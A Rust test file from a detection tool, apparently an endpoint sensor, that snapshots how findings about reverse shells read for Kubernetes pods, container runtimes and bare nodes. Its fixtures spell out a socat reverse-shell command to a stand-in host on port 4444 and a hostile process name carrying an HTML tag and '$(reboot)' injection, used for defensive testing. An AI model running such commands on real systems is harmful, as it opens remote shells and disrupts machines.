//! What the reader of a finding sees, for every kind of place that a shell can be in.
//!
//! The documents are in `snapshots/`; `VEDETTE_SNAPSHOTS=write cargo test -p findings` writes them anew, for a reader to judge.

#![expect(clippy::unwrap_used, reason = "a test that cannot be set up has failed")]

use decoder::{Decoded, decode};
use detection::{Engine, Evidence, Outcome, Settings};
use enrichment::{ExecutableFacts, State};
use event::{Container, Event, Exec, FileIdentity, ImageFacts, PodFacts, RuntimeKind};
use finding::{CloudProvider, FindingResource};
use findings::{Circumstances, Coverage, Ended, EvidenceItem, Place, compose};
use probe_abi::{
    DescriptorKind, RecordAncestor, RecordDescriptor, RecordExec, RecordHeader, RecordKind, RecordProcess,
};
use programs::executable::{Kind, Recognised, ShellFamily};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::sync::Arc;

const SECOND: u64 = 1_000_000_000;
const BOOT_NS: i64 = 1_767_319_445_000_000_000;
const SOCAT: u32 = 10;
const SHELL: u32 = 11;
const NODE: &[u8] = b"session-1.scope\0user.slice\0";

fn record(
    pid: u32,
    path: &[u8],
    arguments: &[u8],
    cgroup: &[u8],
    descriptors: Vec<RecordDescriptor>,
) -> RecordExec<'static> {
    let time_ns = u64::from(pid) * SECOND;
    let header = RecordHeader { length: 0, kind: RecordKind::Exec, time_ns, cgroup: 42, pid, cpu: 0 };
    let mut name = [0; 16];
    let base = path.split(|b| *b == 0).next().unwrap();
    name[..base.len()].copy_from_slice(base);
    RecordExec {
        name,
        executable_inode: u64::from(pid),
        descriptors,
        path: path.to_vec().into(),
        working_directory: b"srv\0".to_vec().into(),
        cgroup: cgroup.to_vec().into(),
        arguments: arguments.to_vec().into(),
        ..RecordExec::of(header, RecordProcess { pid, start_ns: time_ns })
    }
}

fn pair(number: u32, inode: u64, peer: u64) -> RecordDescriptor {
    let (kind, access) = (DescriptorKind::Unix, 3);
    RecordDescriptor { number, kind, access, inode, peer, ..RecordDescriptor::default() }
}

fn socket(number: u32) -> RecordDescriptor {
    let mut local = [0; 16];
    local[..4].copy_from_slice(&[10, 0, 0, 9]);
    RecordDescriptor { local, ..RecordDescriptor::connection(number, 77, 40_001, ([203, 0, 113, 7], 4_444)) }
}

fn decoded(record: &RecordExec<'_>) -> Arc<Exec> {
    match decode(&record.write()) {
        Ok(Decoded::Event(Event::Exec(exec))) => exec,
        other => panic!("not an exec: {other:?}"),
    }
}

fn know(state: &mut State, identity: FileIdentity, kind: Kind) {
    let facts = ExecutableFacts {
        recognised: Recognised { kind, elf: None, examined: 1 },
        sha256: "ab".repeat(32),
        hashed_size: 125_688,
        size: 125_688,
        path: None,
    };
    state.executables.tell_file(identity, Some(Arc::new(facts)));
}

fn concluded(state: &mut State, exec: &Arc<Exec>) -> Evidence {
    let enriched = Arc::new(state.enrich(exec, 1));
    match Engine::new(detectors::catalogue(), Settings::default()).evaluate(&enriched) {
        Outcome::Detected(evidence) => *evidence,
        other => panic!("not detected: {other:?}"),
    }
}

/// socat's child, in the control group of that path.
fn behind_socat(cgroup: &[u8], told: impl FnOnce(Container) -> Container) -> Evidence {
    let arguments = b"socat\0TCP:203.0.113.7:4444\0EXEC:/bin/sh\0";
    let socat = decoded(&record(SOCAT, b"socat\0bin\0usr\0", arguments, cgroup, vec![]));
    let mut shell = record(SHELL, b"sh\0bin\0", b"/bin/sh\0", cgroup, vec![pair(0, 61, 60), pair(1, 61, 60)]);
    let start_ns = u64::from(SOCAT) * SECOND;
    shell.ancestors = vec![RecordAncestor { pid: SOCAT, start_ns, ..RecordAncestor::default() }];
    shell.parent_descriptors = vec![socket(5), pair(6, 60, 61)];
    let shell = decoded(&shell);
    let mut state = State::default();
    know(&mut state, socat.executable.identity, Kind::Socat { version: None });
    know(&mut state, shell.executable.identity, Kind::Shell(ShellFamily::Dash));
    state.tree.exec(&socat);
    state.tree.exec(&shell);
    if let Some(bare) = state.enrich(&shell, 1).container {
        state.containers.tell(&bare.id, told(Container::clone(&bare)), 1);
    }
    concluded(&mut state, &shell)
}

/// A shell of the node itself, of which nothing is known but its name.
fn on_the_node() -> Evidence {
    let descriptors = vec![socket(0), socket(1), socket(2)];
    let shell = decoded(&record(SHELL, b"bash\0bin\0usr\0", b"bash\0-i\0", NODE, descriptors));
    let mut state = State::default();
    state.tree.exec(&shell);
    concluded(&mut state, &shell)
}

fn id() -> String {
    "c".repeat(64)
}

fn named(container: Container) -> Container {
    Container {
        name: "web".into(),
        image: ImageFacts { reference: "registry.example/shop/web:1.2".into(), digest: "sha256:dd".into() },
        created_ns: 1_767_319_000_000_000_000,
        complete: true,
        ..container
    }
}

fn in_pod() -> Evidence {
    let cgroup = format!("{}\0pod11111111-2222-3333-4444-555555555555\0kubepods\0", id());
    behind_socat(cgroup.as_bytes(), |container| {
        let pod = PodFacts {
            name: "web-7d9".into(),
            namespace: "payments".into(),
            labels: BTreeMap::from([("app".into(), "web".into())]),
            ..container.pod.clone().unwrap()
        };
        Container { runtime: RuntimeKind::Containerd, pod: Some(pod), ..named(container) }
    })
}

fn in_container(runtime: RuntimeKind, bundle: Option<&str>) -> Evidence {
    let cgroup = format!("{}\0docker\0", id());
    behind_socat(cgroup.as_bytes(), |container| Container {
        runtime,
        bundle: bundle.map(PathBuf::from),
        ..named(container)
    })
}

fn gke() -> Place {
    Place {
        project: "shop-prod-4711".into(),
        project_number: "424242".into(),
        project_display_name: "Shop (production)".into(),
        location: "europe-west1".into(),
        cloud: CloudProvider::GoogleCloudPlatform,
        cluster: "shop".into(),
        service: "container.googleapis.com".into(),
        instance_id: "5550001112223334445".into(),
        instance_name: "gke-shop-pool-1".into(),
        zone: "europe-west1-b".into(),
        ..Place::local("node-7", "m", "6.1.0")
    }
}

fn machine() -> Place {
    Place::local("node-7", "", "6.1.0")
}

fn written(evidence: &Evidence, place: &Place, coverage: Coverage, ended: Option<Ended>) -> FindingResource {
    let wall = |seconds: i64| BOOT_NS + seconds * 1_000_000_000;
    let items = [EvidenceItem {
        kind: "EXECUTABLE",
        name: "shell: /bin/sh".into(),
        sha256: "ab".repeat(32),
        size: 125_688,
        original_size: 125_688,
        truncated: false,
        taken_at_ns: wall(12),
    }];
    let at = Circumstances {
        place,
        id: "0123456789abcdef0123456789abcdef",
        event_time_ns: wall(11),
        born_ns: wall(11),
        boot_ns: BOOT_NS,
        called_ns: Some(wall(10) + 500_000_000),
        boot_id: "df05e04f-a8f1-4a7b-9a98-882b0a05c341",
        ended,
        coverage: &Coverage { from_ns: wall(1), to_ns: wall(13), ..coverage },
        items: &items,
        missing: &["opener: environ: gone".into()],
    };
    compose(evidence, &at)
}

fn snapshot(name: &str, is: &str) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/snapshots").join(name);
    if std::env::var_os("VEDETTE_SNAPSHOTS").is_some_and(|what| what == "write") {
        std::fs::write(&path, is).unwrap();
    }
    let should = std::fs::read_to_string(&path).unwrap_or_default();
    assert!(is == should, "{} is not what is written now:\n{is}", path.display());
}

fn words(item: &FindingResource) -> String {
    format!("{}\n\n{}", item.finding.description, item.finding.next_steps)
}

#[test]
fn the_whole_finding_of_a_pod() {
    let item = written(&in_pod(), &gke(), Coverage::default(), None);
    snapshot("pod.json", &(serde_json::to_string_pretty(&item).unwrap() + "\n"));
    snapshot("pod.md", &words(&item));
    // another project may have that name, and gcloud takes ids
    let commands: Vec<&str> = item.finding.next_steps.split('`').skip(1).step_by(2).collect();
    assert!(commands.iter().any(|c| c.contains("--project shop-prod-4711")), "{commands:#?}");
    assert!(commands.iter().all(|c| !c.contains("Shop (production)")), "{commands:#?}");
}

#[test]
fn every_runtime_has_its_commands() {
    let task =
        |namespace: &str| format!("/run/containerd/io.containerd.runtime.v2.task/{namespace}/{}", id());
    let (shop, kubelet) = (task("shop's"), task("k8s.io"));
    for (name, runtime, bundle) in [
        ("docker.md", RuntimeKind::Docker, None),
        ("podman.md", RuntimeKind::Podman, None),
        ("containerd.md", RuntimeKind::Containerd, Some(shop.as_str())),
        ("containerd-of-a-kubelet.md", RuntimeKind::Containerd, Some(kubelet.as_str())),
        ("cri-o.md", RuntimeKind::Crio, None),
        ("runc.md", RuntimeKind::Unknown, None),
    ] {
        let item = written(&in_container(runtime, bundle), &machine(), Coverage::default(), None);
        snapshot(name, &words(&item));
        for step in 1..=7 {
            let title = format!("\n{step}. ");
            assert!(
                item.finding.next_steps.starts_with(&title[1..]) || item.finding.next_steps.contains(&title)
            );
        }
    }
}

#[test]
fn a_process_of_the_node_whose_session_has_ended_and_of_which_little_was_seen() {
    let lost = BTreeMap::from([("exec", 7)]);
    let ended = Some(Ended { at_ns: BOOT_NS + 14_000_000_000, exactly: true });
    let item = written(&on_the_node(), &machine(), Coverage { lost, ..Coverage::default() }, ended);
    snapshot("node.md", &words(&item));
    assert!(item.finding.containers.is_empty());
    assert_eq!(item.finding.vedette["confidence"]["level"], "LOW");
    assert_eq!(item.finding.state, finding::State::Active);
}

#[test]
fn the_story_leads_from_the_shell_to_the_network_in_order_of_time() {
    let item = written(&in_pod(), &gke(), Coverage::default(), None);
    let story = &item.finding.vedette["story"];
    let of = |list: &str, keys: &[&str]| -> Vec<String> {
        let list = story[list].as_array().unwrap().iter();
        list.map(|entry| keys.iter().map(|key| entry[*key].to_string()).collect::<Vec<_>>().join(" "))
            .collect()
    };
    assert_eq!(
        of("processes", &["process", "role", "pid", "parentPid", "name"]),
        [r#"0 "SHELL" "11" "10" "sh""#, r#"1 "OPENER" "10" null "socat""#]
    );
    for (entry, process) in story["processes"].as_array().unwrap().iter().zip(&item.finding.processes) {
        assert_eq!(entry["pid"], process.pid.to_string());
    }
    assert_eq!(
        of("events", &["time", "kind", "pid", "text"]),
        [
            r#""2026-01-02T02:04:15Z" "EXEC" "10" "executed /usr/bin/socat""#,
            r#""2026-01-02T02:04:15.500Z" "CONNECTION" "10" "began to connect to 203.0.113.7:4444""#,
            r#""2026-01-02T02:04:16Z" "EXEC" "11" "executed /bin/sh""#,
            r#""2026-01-02T02:04:17Z" "EVIDENCE" "11" "took EXECUTABLE: shell: /bin/sh""#,
        ]
    );
    assert_eq!(of("routes", &["flow"]), [r#""INPUT""#, r#""OUTPUT""#]);
    for route in story["routes"].as_array().unwrap() {
        assert_eq!(
            route["hops"],
            serde_json::json!([{"fromPid": "11", "toPid": "10", "channel": "UNIX_SOCKET"}])
        );
        let endpoint = &route["endpoint"];
        assert_eq!(
            (endpoint["pid"].as_str(), endpoint["peer"].as_str(), endpoint["transport"].as_str()),
            (Some("10"), Some("203.0.113.7:4444"), Some("TCP"))
        );
    }
}

#[test]
fn what_an_attacker_calls_a_process_is_in_its_story_as_it_was() {
    let hostile = "<img src=x>\u{202e}\n$(reboot)";
    let mut evidence = on_the_node();
    let enriched = Arc::make_mut(&mut evidence.enriched);
    let ancestor = enriched.actor.clone();
    enriched.actor.name = hostile.into();
    enriched.ancestors = (0..200)
        .map(|pid| {
            let mut ancestor = ancestor.clone();
            ancestor.process.pid = 1_000 + pid;
            ancestor
        })
        .collect();
    let ended = Some(Ended { at_ns: BOOT_NS + 14_000_000_000, exactly: true });
    let item = written(&evidence, &machine(), Coverage::default(), ended);
    let story = &item.finding.vedette["story"];
    let processes = story["processes"].as_array().unwrap();
    assert_eq!((processes.len(), &processes[0]["name"]), (24, &serde_json::json!(hostile)));
    assert!(processes[1..].iter().all(|process| process["role"] == "ANCESTOR"));
    assert_eq!(story["routes"][0]["hops"], serde_json::json!([]));
    assert_eq!(story["routes"][0]["endpoint"]["pid"], "11");
    let last = story["events"].as_array().unwrap().last().unwrap();
    let end = (last["kind"].as_str(), last["text"].as_str());
    assert_eq!(end, (Some("SESSION_END"), Some("the session ended")));
}

#[test]
fn a_container_of_which_nothing_was_told_is_no_empty_object() {
    let cgroup = format!("{}\0docker\0", id());
    let item = written(&behind_socat(cgroup.as_bytes(), |bare| bare), &machine(), Coverage::default(), None);
    assert!(item.finding.containers.is_empty());
    assert_eq!(item.finding.vedette["container"]["id"], id());
}
